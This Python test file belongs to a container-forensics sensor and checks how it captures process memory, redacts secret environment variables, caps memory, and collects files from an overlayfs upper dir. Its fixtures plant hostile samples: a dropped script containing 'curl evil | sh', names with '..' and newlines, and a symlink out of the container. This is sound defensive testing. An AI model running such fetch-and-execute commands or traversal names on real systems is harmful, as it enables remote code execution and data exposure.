"""Evidence read from /proc and an upper dir into a real case store: a process's heap,
its description with secrets redacted, the per-process memory cap, a process that is
gone, and an upper dir with hostile names, a symlink out of the container, a FIFO and
an oversized file. The processes are this test's own children (no root needed); the
upper dir is a plain directory laid out as overlayfs lays one out."""

import os
import subprocess
import sys

import msgpack

from sensor.forensics import container_evidence, process_evidence
from sensor.forensics.store import CaseStore

HOLDER = ("import os, sys; secret = ''.join(['heap-', 'secret-', str(6 * 7)]); "
          "sys.stdout.write('ready\\n'); sys.stdout.flush(); sys.stdin.read()")


def open_case(tmp_path, budget=1 << 30):
    store = CaseStore(tmp_path / "cases", budget_bytes=budget, writer=True)
    return store, store.open({"id": "c1", "image": "img"}, [], "rule", "WARNING")


def holder(env=None):
    child = subprocess.Popen([sys.executable, "-c", HOLDER], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             env={**os.environ, **(env or {})})
    assert child.stdout.readline() == b"ready\n"
    return child


def test_a_process_heap_is_captured_and_its_secret_looking_environment_redacted(tmp_path):
    store, case = open_case(tmp_path)
    child = holder({"DB_PASSWORD": "hunter2", "API_TOKEN": "t0k3n", "GREETING": "hello"})
    try:
        described = process_evidence.capture(case, child.pid, process_evidence.Limits())
    finally:
        child.kill()
        child.wait()
    manifest = case.seal()
    memory = [a for a in manifest["artifacts"] if a["kind"] == "memory"]
    assert memory and all(a["name"].startswith(f"{child.pid}/") for a in memory)
    assert any(b"heap-secret-42" in b"".join(store.artifact(a["sha256"])) for a in memory)
    assert "DB_PASSWORD=<redacted>" in described["environment"] and "API_TOKEN=<redacted>" in described["environment"]
    assert "GREETING=hello" in described["environment"]
    assert not any("hunter2" in str(e) or "t0k3n" in str(e) for e in described["environment"])
    assert described["exe"] == os.path.realpath(sys.executable) and described["cmdline"][0] == sys.executable
    assert described["status"]["Pid"] == str(child.pid) and "net" in described["namespaces"]
    assert 0 in described["fds"] and described["memory"]["read_bytes"] > 0
    # The vDSO's data pages cannot be read through /proc/PID/mem: skipped and listed.
    assert "[vvar]" in described["memory"]["kernel_mappings_skipped"]
    assert not any("[vvar" in m["what"] for m in manifest["missing"])
    executable = next(a for a in manifest["artifacts"] if a["kind"] == "executable")
    assert b"".join(store.artifact(executable["sha256"]))[:4] == b"\x7fELF"


def test_a_huge_process_is_capped_and_the_cap_recorded(tmp_path):
    store, case = open_case(tmp_path)
    child = holder()
    try:
        described = process_evidence.capture(case, child.pid, process_evidence.Limits(memory_bytes=1 << 20))
    finally:
        child.kill()
        child.wait()
    manifest = case.seal()
    read = sum(a["size"] for a in manifest["artifacts"] if a["kind"] == "memory")
    assert read == described["memory"]["read_bytes"] <= 1 << 20
    assert described["memory"]["cap_bytes"] == 1 << 20 and described["memory"]["over_cap_bytes"] > 0
    assert any("over the memory cap of 1048576 bytes for this process" in m["why"] for m in manifest["missing"])
    assert not manifest["complete"]


def test_a_process_gone_before_its_capture_is_listed_missing_not_an_error(tmp_path):
    store, case = open_case(tmp_path)
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()  # reaped: its pid names nothing now
    described = process_evidence.capture(case, child.pid, process_evidence.Limits())
    manifest = case.seal()
    assert described["pid"] == child.pid and "memory" not in described
    assert {m["why"] for m in manifest["missing"]} == {"the process exited"}
    assert any(m["what"] == f"process {child.pid} memory" for m in manifest["missing"])


def test_hostile_names_a_symlink_out_a_fifo_and_a_big_file_in_the_upper_dir(tmp_path):
    upper = tmp_path / "upper"
    (upper / "tmp").mkdir(parents=True)
    (upper / "tmp" / "dropped.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    hostile = os.fsencode(upper / "tmp") + b"/..\n\xff\xfe evil"
    with open(hostile, "wb") as f:
        f.write(b"hostile bytes")
    secret = tmp_path / "host-secret"
    secret.write_text("the host's own file")
    os.symlink(secret, upper / "tmp" / "escape")        # points out of the container
    os.symlink(tmp_path, upper / "tmp" / "escape-dir")  # and a directory out of it
    os.mkfifo(upper / "tmp" / "pipe")                   # reading it would block
    (upper / "tmp" / "big").write_bytes(b"x" * 5000)
    os.mknod(upper / "tmp" / "removed", 0o600 | 0o020000, 0)  # overlayfs's whiteout: a deleted file
    store, case = open_case(tmp_path)
    listed = container_evidence.written_files(case, str(upper), container_evidence.Limits(file_bytes=4096))
    manifest = case.seal()
    by_path = {entry["path"]: entry for entry in listed}
    assert by_path["/tmp/escape"]["type"] == "symlink" and by_path["/tmp/escape"]["target"] == str(secret)
    assert by_path["/tmp/escape-dir"]["type"] == "symlink" and by_path["/tmp/pipe"]["type"] == "other"
    assert by_path["/tmp/removed"]["type"] == "deleted"
    assert by_path["/tmp/big"] == {**by_path["/tmp/big"], "type": "file", "kept": False, "size": 5000}
    assert by_path[b"/tmp/..\n\xff\xfe evil"]["kept"]
    kept = {a["name"]: b"".join(store.artifact(a["sha256"])) for a in manifest["artifacts"] if a["kind"] == "file"}
    assert kept == {"/tmp/dropped.sh": b"#!/bin/sh\ncurl evil | sh\n", b"/tmp/..\n\xff\xfe evil": b"hostile bytes"}
    assert b"the host's own file" not in b"".join(b"".join(store.artifact(a["sha256"])) for a in manifest["artifacts"])
    assert [m["what"] for m in manifest["missing"]] == ["file '/tmp/big'"]
    # Exported, every name stays under the destination.
    out = store.export(manifest["id"], tmp_path / "out")
    exported = [p for p in (out / "file").rglob("*") if p.is_file()]
    assert len(exported) == 2 and all(out in p.parents for p in exported)
    written = msgpack.unpackb(b"".join(store.artifact(next(
        a["sha256"] for a in manifest["artifacts"] if a["kind"] == "files"))))
    assert len(written) == len(listed)
